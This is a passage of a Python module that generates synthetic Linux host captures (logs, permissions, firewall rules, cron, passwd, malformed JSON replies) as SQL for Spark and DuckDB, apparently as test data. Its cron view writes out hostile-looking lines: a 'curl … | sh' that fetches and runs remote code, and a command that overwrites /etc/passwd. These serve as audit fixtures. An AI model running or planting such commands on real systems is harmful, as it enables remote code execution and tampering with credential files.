"""Host captures derived from the given tables, as SQL both Spark and DuckDB evaluate.

The tables hold no logs, snapshots or command output, so each view below builds them
row by row from a table's keys; their size follows the table.
"""

from __future__ import annotations

import json

from pyspark.sql import DataFrame, SparkSession

from opslake.functions import json_reply
from opslake.plans.partitioning import spread_rows


class SparkDialect:
    def __init__(self, sf_dir: str):
        self.sf_dir = sf_dir

    def t(self, name: str) -> str:
        return f"parquet.`{self.sf_dir}/{name}.parquet`"

    def ts(self, text: str) -> str:
        return f"timestamp_ntz '{text}'"

    def syslog(self, c: str) -> str:
        return f"date_format({c}, 'MMM d HH:mm:ss')"

    def day_seconds(self, c: str) -> str:
        return f"(cast(datediff({c}, date '1970-01-01') as bigint) * 86400)"

    def hex(self, c: str, width: int) -> str:
        return f"lpad(hex({c}), {width}, '0')"

    def times(self, n: int, name: str) -> str:
        """Each row ``n`` times, numbered."""
        return f"lateral view explode(sequence(0, {n - 1})) i as {name}"


class DuckDialect(SparkDialect):
    def __init__(self):
        super().__init__("")

    def t(self, name: str) -> str:
        return name

    def ts(self, text: str) -> str:
        return f"timestamp '{text}'"

    def syslog(self, c: str) -> str:
        return f"strftime({c}, '%b %-d %H:%M:%S')"

    def day_seconds(self, c: str) -> str:
        return f"(date_diff('day', date '1970-01-01', cast({c} as date)) * 86400)"

    def hex(self, c: str, width: int) -> str:
        return f"lpad(upper(to_hex({c})), {width}, '0')"

    def times(self, n: int, name: str) -> str:
        return f"cross join (select unnest(range(0, {n})) as {name}) i"


def _journal(d) -> str:
    return f"""
select seq, ts, host, service, boot, priority, exit_code, message,
       {d.syslog('ts')} || ' ' || host || ' ' || service || '[' || (user_id + 10) || ']: ' || message as raw
from (
  select event_id as seq, ts, user_id, 'host' || (user_id % 8) as host,
    case user_id % 5 when 0 then 'nginx' when 1 then 'postgresql' when 2 then 'sshd'
         when 3 then 'kernel' else 'app' end as service,
    case when ts < {d.ts('2024-01-11 00:00:00')} then -2
         when ts < {d.ts('2024-01-21 00:00:00')} then -1 else 0 end as boot,
    case event_type when 'error' then 3 when 'purchase' then 4 when 'signup' then 6
         when 'click' then 6 else 7 end as priority,
    case when event_type = 'error' and event_id % 10 = 0 then
      case event_id % 7 when 0 then 1 when 1 then 2 when 2 then 127 when 3 then 137
           when 4 then 139 when 5 then 143 else 150 end end as exit_code,
    case event_type
      when 'error' then 'error: connect 10.0.' || (user_id % 256) || '.' || (event_id % 250)
        || ' failed, see /var/log/app/' || user_id || '.log'
      when 'purchase' then 'warning: slow reply for user' || user_id
        || '@example.com from https://api.example.com/v1/' || event_id
      when 'signup' then 'Installed: kernel-6.10.' || (event_id % 9)
        || '-200.fc40.x86_64 by /home/u' || user_id || '/bin/setup'
      when 'click' then 'session abc12345-def0-1234-5678-' || lpad(cast(user_id as string), 12, '0')
        || ' on aa:bb:cc:dd:ee:' || (event_id % 90 + 10)
      else 'debug: map 0x00ffee' || (event_id % 90 + 10) || ' in /var/cache/dnf/updates-00aa'
        || (event_id % 90 + 10) || '/x, /opt/app/' || user_id
    end as message
  from {d.t('events')}) e"""


def _neighbours(d) -> str:
    return f"""
select event_id as seq,
  'peer 2001:db8:0:' || (user_id % 100) || '::' || (event_id % 1000)
  || ' full 2001:db8:1:2:3:4:' || (user_id % 9000) || ':' || (event_id % 9000)
  || case event_id % 5 when 0 then ' via ::1 dev eth0' when 1 then ' std::vector::iterator'
       when 2 then ' mapped ::ffff:' || (event_id % 90) || ':' || (user_id % 90)
       when 3 then ' at 12:30:' || (event_id % 60) || ' from fe80::1ff:fe23:4567:890a'
       else ' net ' || (event_id % 1000) || ':' || (user_id % 1000) || ':: up' end
  || case event_id % 7 when 0 then chr(2) || chr(3) || ' a' || chr(2) || 'b ::2' || chr(3) else '' end as message
from {d.t('events')}"""


def _journal_groups(d) -> str:
    # one captured text per (host, service, day): a few are sentinels or blank
    return f"""
select 'host' || (o_custkey % 8) as host, 'svc' || (o_custkey % 40) as service, o_orderkey as seq,
  case o_orderkey % 6 when 0 then '-- No entries --' when 1 then '   '
    when 2 then 'No journal files were found.'
    when 3 then '-- No entries --' || chr(10) || '[' || o_orderkey || '.5] kernel: late line'
    when 4 then 'app[' || o_orderkey || ']: started' else 'plain words ' || o_orderkey end as text
from {d.t('orders')}"""


def _files(d) -> str:
    return f"""
select 'host' || (k % 8) as host, '/etc/app' || (k % 50) || '/f' || k || '.conf' as path, n + 1 as snapshot_id,
  mtime + case when n = 1 and k % 13 = 0 then 3600 else 0 end as mtime,
  size + case when n = 1 and k % 17 = 0 then 1 else 0 end as size
from (select o_orderkey as k, {d.day_seconds("o_orderdate")} as mtime, cast(floor(o_totalprice) as bigint) as size
      from {d.t('orders')}) o {d.times(2, 'n')}
where case n when 0 then k % 97 else k % 89 end <> 0"""


def _perms(d) -> str:
    return f"""
select 'host' || (k % 8) as host, '/etc/app' || (k % 50) || '/f' || k || '.conf' as path, n + 1 as snapshot_id,
  case when n = 1 and k % 19 = 0 then '0777' when n = 1 and k % 41 = 0 then '4755' else mode end as mode,
  case when n = 1 and k % 23 = 0 then 'u' || customer else 'root' end as owner, 'root' as grp
from (select o_orderkey as k, o_custkey as customer, case o_orderstatus when 'F' then '0644' when 'O' then '0600' else '0755' end as mode
      from {d.t('orders')}) o {d.times(2, 'n')}
where case n when 0 then k % 97 else k % 89 end <> 0"""


def _packages(d) -> str:
    # the third of a part's lines names it again in the second snapshot, with another version
    return f"""
select 'host' || (k % 8) as host, case n when 0 then 1 else 2 end as snapshot_id, k + case n when 2 then 1000000000 else 0 end as line_no,
  case when n = 2 then 'pkg' || k || ' 99.' || (k % 10)
    else 'pkg' || k || case when k % 31 = 0 then '' else ' ' || (size + case when n = 1 and k % 11 = 0 then 1 else 0 end) || '.' || (k % 10) end
  end as line
from (select p_partkey as k, p_size as size from {d.t('part')}) p {d.times(3, 'n')}
where case n when 0 then k % 29 <> 0 when 1 then k % 37 <> 0 else k % 43 = 0 end"""


def _named_set(d, table: str, key: str, value: str) -> str:
    return f"""
select 'host' || (k % 8) as host, case n when 0 then 1 else 2 end as snapshot_id, item
from (select {key} as k, {value} as item from {d.t(table)}) t {d.times(3, 'n')}
where case n when 0 then k % 7 <> 0 when 1 then k % 5 <> 0 else k % 3 = 0 and k % 5 <> 0 end"""


def _snapshot_meta(d) -> str:
    return f"""
select 'host' || s_suppkey as host, 1 as version,
  {d.ts('2024-01-01 00:00:00')} + s_suppkey * interval '37' minute as created_at from {d.t('supplier')}"""


def _collection_errors(d) -> str:
    return f"""
select distinct 'host' || (s_suppkey % 8) as host,
  case when s_suppkey % 3 = 0 then 'ports' else 'packages' end as category,
  case when s_suppkey % 3 = 0 then 'ports: ss: exit status 1' else 'packages: rpm: exit status 2' end as error
from {d.t('supplier')} where s_suppkey % 10 = 3"""


def _listing(d) -> str:
    return f"""
select 'host' || (o_orderkey % 8) as host, o_orderkey as line_no,
  case when o_orderkey % 50 = 0 then cast({d.day_seconds('o_orderdate')} as string)
       when o_orderkey % 53 = 0 then 'x' || o_orderkey || ' 12 /etc/bad'
       else {d.day_seconds('o_orderdate')} || '.5000000000 ' || cast(floor(o_totalprice) as bigint)
         || ' /etc/app' || (o_orderkey % 50) || '/f ' || o_orderkey || '.conf' end as line
from {d.t('orders')}"""


def _mounts(d) -> str:
    return f"""
select 'host' || (k % 8) as host, k * 25 + n as line_no,
  case when (k + n) % 23 = 0 then '# comment line with words'
       when (k + n) % 19 = 0 then '/dev/short ' || k
       else (case when k % 6 = 0 then 'nfs' || k || ':/export' else '/dev/sd' || k end)
         || ' /data' || (k % 40) || '_' || n || (case when k % 9 = 0 then {_bs()} || '040x' else '' end)
         || ' ' || (case when k % 6 = 0 then (case when n % 2 = 0 then 'nfs4' else 'nfs' end)
              else (case (k + n) % 5 when 0 then 'ext4' when 1 then 'xfs' when 2 then 'tmpfs'
                    when 3 then 'proc' else 'squashfs' end) end)
         || ' ' || (case (k + n) % 4 when 0 then 'ro' when 1 then 'rw,errors=remount-ro' else 'rw,relatime' end)
         || ' 0 0' end as line
from (select s_suppkey as k, n_nationkey as n
      from {d.t('supplier')} join {d.t('nation')} on s_suppkey % 5 = n_nationkey % 5) m"""


def _df_lines(d) -> str:
    return f"""
select 'host' || (k % 8) as host, k * 25 + n as line_no,
  case when (k + n) % 29 = 0 then 'Filesystem 1024-blocks Used Available Capacity Mounted on'
       else '/dev/sd' || k || ' ' || (k * 1048576 + n * 300) || ' ' || (k * 40000 + n) || ' '
         || (k * 900 + 1) || ' ' || (n * 4) || '% /data' || (k % 40) || '_' || n end as line
from (select s_suppkey as k, n_nationkey as n
      from {d.t('supplier')} join {d.t('nation')} on s_suppkey % 5 = n_nationkey % 5
      where s_suppkey % 11 <> 0) m"""


def _nfs_probes(d) -> str:
    return f"""
select 'host' || (k % 8) as host, 'nfs' || k || ':/export' as device, k % 12 = 0 as stale
from (select s_suppkey as k from {d.t('supplier')} where s_suppkey % 6 = 0) m"""


def _ss(d) -> str:
    port = ("case p_partkey % 9 when 0 then 22 when 1 then 80 when 2 then 443 when 3 then 3306 "
            "when 4 then 5432 when 5 then 6379 when 6 then 9090 when 7 then 27017 "
            "else 1000 + p_partkey % 60000 end")
    return f"""
select 'host' || (k % 8 + 8 * (k % 40)) as host, case when k % 4 = 3 then 'udp' else 'tcp' end as proto,
  k as line_no,
  case when k % 17 = 0 then 'LISTEN 0 128'
       when k % 19 = 0 then 'LISTEN 0 128 * 0.0.0.0:*'
       else 'LISTEN  0 128 ' || (case k % 3 when 0 then '0.0.0.0' when 1 then '127.0.0.1' else '[::]' end)
         || ':' || port || ' 0.0.0.0:*'
         || (case when k % 5 = 0 then '' else ' users:(("p' || k || '",pid=' || k || ',fd=3))' end) end as line
from (select p_partkey as k, {port} as port from {d.t('part')}) p"""


def _fw_lines(d) -> str:
    # one small rule listing per supplier-host; backend by host number
    return f"""
select 'host' || k as host, backend, k * 100 + n as line_no, line, zone from (
  select k, n, case k % 4 when 0 then 'firewalld' when 1 then 'ufw' when 2 then 'nftables'
                else 'iptables' end as backend,
    case when k % 4 = 0 then 'public' else '' end as zone,
    case k % 4
      when 0 then case n
        when 0 then '  target: default' when 1 then '  ports: 22/tcp 80/tcp ' || (1000 + k) || '/udp ' || (2000 + k)
        when 2 then '  services: ssh cockpit' when 3 then '  sources: 10.0.' || (k % 250) || '.0/24'
        when 4 then '  rich-rules: rule family="ipv4" source address="10.1.2.' || (k % 250) || '" accept'
        when 5 then '  rich-rules:' when 6 then '  forward: yes' else '' end
      when 1 then case n
        when 0 then 'Status: active' when 1 then 'To                         Action      From'
        when 2 then '[ 1] 22/tcp                     ALLOW IN    Anywhere'
        when 3 then '[ 2] ' || (3000 + k % 500) || '/tcp  ALLOW IN    10.0.' || (k % 250) || '.7   (note ' || k || ')'
        when 4 then '[ 3] 5432/tcp DENY Anywhere' when 5 then '[ 4] none'
        when 6 then '[ 5] 27017/tcp  ALLOW IN Anywhere (v6)' when 7 then '[ 6] 9090/tcp ALLOW OUT Anywhere'
        when 8 then '[ 7] 5432,6379/tcp ALLOW IN Anywhere' else '' end
      when 2 then case n
        when 0 then 'table inet filter ' || chr(123) when 1 then '  chain INPUT ' || chr(123)
        when 2 then '    ct state established,related accept'
        when 3 then case when k % 8 = 2 then '    tcp dport ' || chr(123) || ' ssh, https, gopher ' || chr(125) || ' accept' else
          '    tcp dport ' || chr(123) || ' 80, 443, ' || (8000 + k % 100) || '-' || (8100 + k % 100) || ' ' || chr(125) || ' accept' end
        when 4 then '    udp dport 53 drop' when 5 then '  chain OUTPUT ' || chr(123)
        when 6 then '    tcp dport ' || (1000 + k) || ' accept' when 7 then '    drop' when 9 then '  chain extra ' || chr(123)
        when 10 then '    tcp dport 3000-4000 drop' when 11 then '    iif lo accept'
        when 12 then (case when k % 8 = 2 then '    accept' else '    tcp dport 2000-65535 accept' end) else '  ' || chr(125) end
      else case n
        when 0 then 'Chain INPUT (policy ' || (case when k % 8 = 3 then 'ACCEPT' else 'DROP' end) || ')'
        when 1 then 'target     prot opt source               destination'
        when 2 then 'ACCEPT     all  --  0.0.0.0/0            0.0.0.0/0'
          || (case when k % 16 < 8 then '            ctstate RELATED,ESTABLISHED' else '' end)
        when 3 then 'ACCEPT     tcp  --  0.0.0.0/0            0.0.0.0/0            tcp dpt:' || (1000 + k)
        when 4 then 'DROP       0    --  10.0.0.' || (k % 250) || '   0.0.0.0/0 tcp dpt:3306'
        when 5 then '' when 6 then 'Chain FORWARD (1 references)' when 7 then 'short row'
        when 8 then 'REJECT     udp  --  0.0.0.0/0  0.0.0.0/0' when 9 then 'Chain LOCAL (2 references)'
        when 10 then 'DROP       tcp  --  0.0.0.0/0  0.0.0.0/0  tcp dpt:' || (1005 + k)
        when 11 then 'ACCEPT     6    --  0.0.0.0/0  0.0.0.0/0  multiport dports 80,443,' || (1001 + k) || ':' || (1010 + k)
        when 12 then 'ACCEPT     tcp  --  10.0.0.0/8 0.0.0.0/0  tcp dpts:6000:6400'
        else (case when k % 8 = 3 then 'DROP       all  --  0.0.0.0/0  0.0.0.0/0  ctstate INVALID'
          else 'ACCEPT     tcp  --  0.0.0.0/0  0.0.0.0/0' end) end
    end as line
  from (select s_suppkey as k from {d.t('supplier')}) s {d.times(14, 'n')}
  where s.k % 13 <> 0) f
where line is not null"""


def _fw_reads(d) -> str:
    return f"""
select 'host' || s_suppkey as host,
  case when s_suppkey % 17 = 0 then '' else case s_suppkey % 4 when 0 then 'firewalld' when 1 then 'ufw'
    when 2 then 'nftables' else 'iptables' end end as backend,
  case when s_suppkey % 5 = 0 then 'list: exit status 1' else '' end as warning
from {d.t('supplier')}"""


def _replies(d) -> str:
    sev = ("case k % 3 when 0 then 'warning' when 1 then 'info' else "
           "(case when k % 7 in (0, 2) then 'critical' else 'info' end) end")
    q = "'\"'"

    def kv(key: str, value: str) -> str:
        return f"'\"{key}\":\"' || {value} || {q}"

    def finding(sev_sql: str, title: str, extra: str) -> str:
        return (f"chr(123) || {kv('severity', sev_sql)} || {extra} || {title} || "
                f"',' || {kv('detail', chr(39) + 'see line ' + chr(39) + ' || k')} || chr(125)")

    extra = ("case cmd when 'audit' then ',\"category\":\"file\"' when 'ports' then ',\"port\":\"' || (k % 9000) || '\"' "
             "when 'mounts' then ',\"mount_point\":\"/data' || (k % 40) || '\"' "
             "else ',\"rule\":\"r' || (k % 5) || '\",\"port\":\"22\"' end")
    title = "',\"title\":\"finding ' || k || '\"'"
    good = finding(sev, title, extra)
    second = finding("'info'", "',\"title\":\"note ' || (k % 10) || '\"'", extra)
    doc = lambda summary, one: (
        f"chr(123) || '\"summary\":' || {summary} || ',\"findings\":[' || {one} || ',' || {second} || ']' || chr(125)")
    summary = "'\"result ' || (k % 100) || '\"'"
    return f"""
select k as id, cmd as command,
  case k % 16
    when 5 then {doc(summary, finding("(case when k % 32 = 5 then 'Warning' else 'crit' end)", title, extra))}
    when 6 then {doc(summary, finding(sev, "''", extra))}
    when 7 then {doc(summary, finding(sev, "',\"title\":' || k", extra))}
    when 8 then 'Sure, here is the result:' || chr(10) || '```json' || chr(10) || {doc(summary, good)} || chr(10) || '```'
    when 9 then case k % 5 when 0 then '' when 1 then ' ' || chr(123) || ' ' || chr(125) || ' '
        when 2 then 'null' when 3 then '[ ]' else chr(10) end
    when 10 then (case when k % 32 = 10 then substring({doc(summary, good)}, 1, 40)
      else substring({doc(summary, good)}, 1, length({doc(summary, good)}) - 10) end)
    when 11 then {doc("'\"  \"'", good)}
    when 12 then {doc(summary, good)} || ' Hope this helps.'
    when 13 then {doc(summary, good)} || chr(123) || '"x":1' || chr(125)
    when 14 then {doc(summary, good)} || ' ]'
    when 15 then chr(123) || '"summary":"old",' || substring({doc(summary, good)}, 2, 100000)
    else {doc(summary, good)} end as raw
from (select o_orderkey as k, case o_orderkey % 5 when 0 then 'audit' when 1 then 'ports'
        when 2 then 'mounts' when 3 then 'firewall' else 'audit' end as cmd
      from {d.t('orders')}) o"""


def reply_forms(schemas: dict, bools: set[str]) -> dict[str, list[str]]:
    """For every command, replies that break its schema in one way each; ``@`` stands for a number."""
    words = {"severity": "warning", "status": "ok", "category": "security"}

    def leaf(name: str):
        return True if name in bools else words.get(name, f"{name} @")

    out = {}
    for command, fields in schemas.items():
        sound = {n: f"{n} @" if s == "string" else ["step @", "more"] if s == "strings" else [{f: leaf(f) for f in s} for _ in range(2)]
                 for n, s in fields.items()}
        forms = [sound, {}, {n: None for n in fields}, {n: 7 for n in fields}, dict(list(sound.items())[1:]),
                 {n: [] if isinstance(v, list) else "  " for n, v in sound.items()}]
        for value in (None, [1], "", "@", 5, "Failed"):  # of every leaf of the second entry, and of the second text
            changed = {}
            for n, v in sound.items():
                if isinstance(v, list):
                    changed[n] = [v[0], value if fields[n] == "strings" else {f: value for f in v[1]}]
                else:
                    changed[n] = v
            forms.append(changed)
        for at in range(2):  # one leaf missing, one blank
            forms.append({n: [v[0], {f: x for f, x in v[1].items() if f != list(v[1])[at % len(v[1])]}] if isinstance(v, list) and isinstance(
                v[1], dict) else v for n, v in sound.items()})
            forms.append({n: [v[0] | {list(v[0])[-1 - at % len(v[0])]: " "}, 3] if isinstance(v, list) and isinstance(v[0], dict) else v
                          for n, v in sound.items()})
        out[command] = [json.dumps(f) for f in forms] + ["not json", "[1]"]
    return out


def _command_replies(d) -> str:
    forms = reply_forms(json_reply.SCHEMAS, json_reply.BOOL_FIELDS)
    n = len(next(iter(forms.values())))
    command = "case k % {} {} end".format(len(forms), " ".join(f"when {i} then '{c}'" for i, c in enumerate(forms)))
    texts = " ".join(f"when {i * n + j} then '{t}'" for i, ts in enumerate(forms.values()) for j, t in enumerate(ts))
    return f"""
select k as id, {command} as command, replace(case form {texts} end, '@', cast(k as string)) as raw
from (select p_partkey as k, p_partkey % {len(forms)} * {n} + cast(floor(p_partkey / {len(forms)}) as bigint) % {n} as form from {d.t('part')}) p"""


def _history(d) -> str:
    return f"""
select 'host' || (k % 8) as host, k as seq, ts, cmd as command,
  case when k % 43 = 0 then chr(123) || '"summary":"' || pri || '"' || chr(125) || ' and more'
    when k % 47 = 0 then lpad('', 79, 'x') || 'éé' || cast(k as string)
    when k % 41 = 0 then chr(123) || '"x":"' || lpad(cast(k as string), 90, 'y') || '"' || chr(125)
    when cmd = 'explain' then case when k % 3 = 0 then chr(123) || '"issues":[]' || chr(125)
      else chr(123) || '"issues":[' || chr(123) || '"what":" ' || pri || ' ","why":"w"' || chr(125) || ']' || chr(125) end
    when cmd in ('why', 'audit') then chr(123) || '"summary":"' || pri || '"' || chr(125)
    when cmd = 'status' then case when k % 2 = 0 then chr(123) || '"overview":"' || pri || ' load"' || chr(125)
      else chr(123) || '"summary":"' || pri || ' brief"' || chr(125) end
    else case k % 4 when 0 then chr(123) || '"issues":[' || chr(123) || '"title":"' || pri || ' doctor"' || chr(125) || ']' || chr(125)
      when 1 then chr(123) || '"issues":[]' || chr(125) when 2 then chr(123) || '"issues":null' || chr(125)
      else chr(123) || '"summary":"' || pri || ' short"' || chr(125) end
  end as result
from (select o_orderkey as k, o_orderdate as ts, o_orderpriority as pri,
        case o_orderkey % 5 when 0 then 'explain' when 1 then 'why' when 2 then 'audit'
          when 3 then 'status' else 'doctor' end as cmd from {d.t('orders')}) o"""


def _timer_lines(d) -> str:
    usec = "(1718064000 + k % 5000 * 3600) || '000000'"
    return f"""
select 'host' || (k % 8) as host, 'u' || k || '.timer' as unit, n as line_no,
  case n
    when 0 then case when k % 13 = 0 then 'Id=' else 'Id=u' || k || '.timer' end
    when 1 then 'ActiveState=' || (case when k % 4 = 0 then 'inactive' else 'active' end)
    when 2 then 'Triggers=' || (case when k % 11 = 0 then '' else 'u' || k || '.service other.service' end)
    when 3 then 'NextElapseUSecRealtime=' || (case k % 5 when 0 then '0' when 1 then 'n/a' else {usec} end)
    when 4 then 'NextElapseUSecMonotonic=' || (case when k % 10 = 0 then {usec} else ',\"rule\":\"r' || (k % 5) || '\",\"port\":\"22\"' end)
    when 5 then 'LastTriggerUSec=' || (case when k % 6 = 0 then '0' else {usec} end)
    when 6 then 'Result=' || (case k % 3 when 0 then 'success' when 1 then 'exit-code' else '' end)
    else 'no separator' end as line
from (select p_partkey as k from {d.t('part')}) p {d.times(8, 'n')}"""


def _service_lines(d) -> str:
    return f"""
select 'host' || (k % 8) as host, 'u' || k || '.service' as unit,
  'Result=' || (case when k % 2 = 0 then 'success' else 'signal' end) as line
from (select p_partkey as k from {d.t('part')} where p_partkey % 7 <> 0) p"""


def _cron_lines(d) -> str:
    return f"""
select 'host' || (k % 8) as host,
  case when k % 2 = 0 then 'user:u' || (k % 1500) when k % 31 = 1 then '/etc/cron.d/old.dpkg-old'
       when k % 37 = 1 then '/etc/cron.d/edit~' else '/etc/cron.d/job' || (k % 10) end as source,
  k % 2 = 1 as system_format, k as line_no,
  case k % 9
    when 0 then '# note ' || k when 1 then 'PATH=/usr/bin:' || k
    when 2 then '@daily' || (case when k % 2 = 1 then ' root' else '' end) || ' /usr/bin/job' || k || ' --fast'
    when 3 then '* * * * *' || (case when k % 2 = 1 then ' root' else '' end) || ' /bin/poll  ' || k
    when 4 then '5 4 * *'
    when 5 then '0 3 * * 1' || (case when k % 2 = 1 then ' root' else '' end) || ' curl -s http://x/' || k || ' | sh'
    when 6 then '0 3 * * 1' || (case when k % 2 = 1 then ' root' else '' end) || ' cp a' || k || ' > /etc/passwd'
    when 7 then '@reboot'
    else '  15 2 1 * *' || (case when k % 2 = 1 then ' backup' else '' end) || ' A=1 /usr/bin/run ' || k end as line
from (select p_partkey as k from {d.t('part')}) p"""


def _passwd(d) -> str:
    return f"""
select 'host' || (k % 8) as host, k as line_no,
  case when k % 47 = 0 then '# local' when k % 43 = 0 then 'bad:row'
    else 'u' || k || ':x:' || k || ':' || k || ':name:/home/u' || k || ':'
      || (case k % 3 when 0 then '/bin/bash' when 1 then '/usr/sbin/nologin' else '/bin/false' end) end as line
from (select c_custkey as k from {d.t('customer')}) c"""


def _update_lines(d) -> str:
    name = ("case k % 7 when 0 then 'linux-image-' || k when 1 then 'glibc' || (case when k % 2 = 0 then '' else cast(k as string) end) "
            "when 2 then 'nvidia-driver' || k when 3 then 'lib' || k || '-firmware' else 'pkg' || k end")
    return f"""
select 'host' || (k % 8) as host, manager, k as line_no,
  case manager
    when 'apt' then case when k % 3 = 0 then 'Listing... ' || k
      else name || '/stable' || (case when k % 5 = 0 then '-security' else '' end) || ' ' || (k % 4 + 1) || '.' || (k % 10)
        || (case when k % 8 = 0 then '~deb12' else '' end) || ' amd64'
        || (case when k % 11 = 0 then '' else ' [upgradable from: ' || (k % 3 + 1) || '.0]' end) end
    when 'dnf' then case when k % 3 = 0 then 'Obsoleting Packages'
      else name || '.x86_64 ' || (k % 4 + 1) || '.' || (k % 10) || '-1.fc40 '
        || (case when k % 5 = 0 then 'updates-security' else 'updates' end) end
    when 'pacman' then case when k % 3 = 0 then name || ' 1.0' else name || ' ' || (k % 3 + 1) || '.0-1 -> ' || (k % 4 + 1) || '.1-2-' end
    else case when k % 3 = 0 then '   ' else name end end as line
from (select k, manager, {name} as name from (
  select p_partkey as k, case p_partkey % 4 when 0 then 'apt' when 1 then 'dnf' when 2 then 'pacman'
    else 'apk' end as manager from {d.t('part')}) a) p"""


def _rpm_lines(d) -> str:
    name = ("case k % 7 when 0 then 'linux-image-' || k when 1 then 'glibc' || (case when k % 2 = 0 then '' else cast(k as string) end) "
            "when 2 then 'nvidia-driver' || k when 3 then 'lib' || k || '-firmware' else 'pkg' || k end")
    return f"""
select 'host' || (k % 8) as host, k as line_no,
  {name} || (case when k % 10 = 0 then ' extra' else '' end) || ' ' || (k % 3 + 1) || '.0-1.fc40' as line
from (select p_partkey as k from {d.t('part')} where p_partkey % 3 <> 1) p"""


def _proc_status(d) -> str:
    return f"""
select 'host' || (k % 8) as host, k as pid, n as line_no,
  case n when 0 then 'Name:' || chr(9) || 'proc' || k when 1 then 'State:' || chr(9) || 'S (sleeping)'
    when 2 then case when k % 5 = 0 then 'VmSize:' || chr(9) || '1 kB' else 'VmRSS:' || chr(9) || '  ' || (k % 5000) || ' kB' end
    when 3 then 'Threads:' || chr(9) || (k % 30 + 1)
    when 4 then 'Uid:' || chr(9) || (k % 1000) || chr(9) || '0' || chr(9) || '0' else 'no colon here' end as line
from (select s_suppkey as k from {d.t('supplier')}) s {d.times(6, 'n')}"""


def _proc_fds(d) -> str:
    return f"""
select 'host' || (l_suppkey % 8) as host, l_suppkey as pid, l_orderkey * 10 + l_linenumber as fd,
  case l_orderkey % 4 when 0 then 'socket:[' || l_orderkey || ']' when 1 then 'pipe:[' || l_orderkey || ']'
    when 2 then '/var/log/p' || (l_partkey % 20) || '.log' else '/dev/null' end as target
from {d.t('lineitem')}"""


def _proc_tcp(d) -> str:
    def addr(a: str, b: str) -> str:
        return f"{d.hex(a, 2)} || {d.hex(b, 2)} || '000A' || ':' "
    return f"""
select 'host' || (k % 8) as host, k as pid, o * 10 + n as line_no,
  case when o % 31 = 0 then '  sl  local' else
   '   ' || (o % 90) || ': ' ||
   case when o % 7 = 0 then {d.hex('k % 256', 32)} || ':' || {d.hex('o % 65536', 4)}
     else {addr('k % 256', 'o % 256')} || {d.hex('o % 65536', 4)} end
   || ' ' || case o % 3 when 0 then '00000000:0000' when 1 then {addr('o % 200', 'n % 250')} || {d.hex('k % 65536', 4)}
       else 'zz' end
   || ' ' || case when o % 29 = 0 then '0c' else {d.hex('o % 11 + 1', 2)} end || ' 00000000:00000000' end as line
from (select l_suppkey as k, l_orderkey as o, l_linenumber as n from {d.t('lineitem')}) l"""


def _ps(d) -> str:
    return f"""
select 'host' || (l_suppkey % 8) as host, l_orderkey * 10 + l_linenumber as pid,
  'root ' || (l_orderkey * 10 + l_linenumber) || ' ' || cast(l_quantity as int) || '.' || (l_partkey % 10)
  || ' 0.1 1000 200 ? S 10:00 0:01 /usr/bin/p' || l_partkey || ' --id ' || l_orderkey as line
from {d.t('lineitem')}"""


def _host_text(d) -> str:
    return f"""
select 'host' || k as host, kind, line_no, line from (
  select s_suppkey as k, 'free' as kind, 1 as line_no,
    'Mem:   ' || (s_suppkey % 60 + 4) || '.0Gi  ' || (s_suppkey % 9 + 1) || '.5Gi 1.0Gi 10Mi 2Gi ' || (s_suppkey % 20 + 1) || 'Gi' as line
    from {d.t('supplier')}
  union all
  select s_suppkey as k, 'free' as kind, 2 as line_no,
    'Swap:  8.0Gi ' || (case s_suppkey % 3 when 0 then '0B' when 1 then '512Mi' else '0' end) as line
    from {d.t('supplier')}
  union all
  select s_suppkey as k, 'df' as kind, n as line_no,
    case n when 0 then 'Filesystem Size Used Avail Use% Mounted' when 1 then '/dev/sda1 100.0Gi ' || (s_suppkey % 90) || 'Gi 10Gi ' || (s_suppkey % 90) || '% /'
      when 2 then '/dev/sda1 100Gi 50Gi 50Gi 50% /again' when 3 then 'overlay 5G 1G 4G 20% /o'
      else '/dev/sdb' || (s_suppkey % 3) || ' 2.0Ti 1.0Ti 1.0Ti 50% /data' end as line
    from {d.t('supplier')} {d.times(5, 'n')}
  union all
  select s_suppkey as k, 'uptime' as kind, 1 as line_no,
    'up ' || (s_suppkey % 300) || ' days, ' || (s_suppkey % 24) || ' hours, ' || (s_suppkey % 60) || ' minutes' as line
    from {d.t('supplier')}
  union all
  select s_suppkey as k, 'failed' as kind, 1 as line_no, 's' || s_suppkey || '.service loaded failed failed' as line
    from {d.t('supplier')} where s_suppkey % 4 = 0
  union all
  select s_suppkey as k, 'errors' as kind, 1 as line_no, '[1.5] app[' || s_suppkey || ']: error' as line
    from {d.t('supplier')} where s_suppkey % 3 = 0) h"""


def _os_release(d) -> str:
    q = "'\"'"
    return f"""
select 'host' || k as host, n as line_no,
  case n when 0 then '# os-release'
    when 1 then 'ID=' || (case k % 5 when 0 then 'debian' when 1 then 'fedora' when 2 then {q} || 'arch' || {q} when 3 then 'alpine' else 'custom' || k end)
    when 2 then case when k % 5 = 4 then 'ID_LIKE=' || {q} || 'foo rhel fedora debian' || {q} else 'ID_LIKE=' end
    when 3 then 'VERSION_ID=' || {q} || (k % 40) || {q}
    when 4 then 'PRETTY_NAME=' || chr(39) || 'OS ' || k || chr(39)
    else '=bad' end as line
from (select s_suppkey as k from {d.t('supplier')}) s {d.times(6, 'n')}"""


def _captures(d) -> str:
    return f"""
select 'host' || (s_suppkey % 8) as host, 'cmd' || (s_suppkey % 3) as cmd, s_suppkey as capture_id,
  '  ' || s_name || '  ' || chr(10) || chr(10) || chr(9) || s_nationkey || ' rows' || chr(13) || chr(10)
  || '   ' || chr(10) || 'end ' || s_suppkey as output
from {d.t('supplier')}"""


def _anomalies(d) -> str:
    return f"""
select 'host' || (o_orderkey % 8) as host, case o_orderkey % 4 when 0 then 'failed' when 1 then 'warning'
  when 2 then 'degraded' else '' end as severity
from {d.t('orders')}"""


def _bs() -> str:
    return "chr(92)"


VIEWS = {
    "journal": _journal,
    "neighbours": _neighbours,
    "journal_groups": _journal_groups,
    "files": _files,
    "perms": _perms,
    "packages": _packages,
    "services": lambda d: _named_set(d, "supplier", "s_suppkey", "'s' || s_suppkey || '.service'"),
    "ports": lambda d: _named_set(d, "supplier", "s_suppkey", "'tcp 0.0.0.0:' || (1000 + s_suppkey)"),
    "users": lambda d: _named_set(d, "customer", "c_custkey", "'u' || c_custkey"),
    "snapshot_meta": _snapshot_meta,
    "collection_errors": _collection_errors,
    "listing": _listing,
    "mounts": _mounts,
    "df_lines": _df_lines,
    "nfs_probes": _nfs_probes,
    "ss": _ss,
    "fw_lines": _fw_lines,
    "fw_reads": _fw_reads,
    "replies": _replies,
    "command_replies": _command_replies,
    "history": _history,
    "timer_lines": _timer_lines,
    "service_lines": _service_lines,
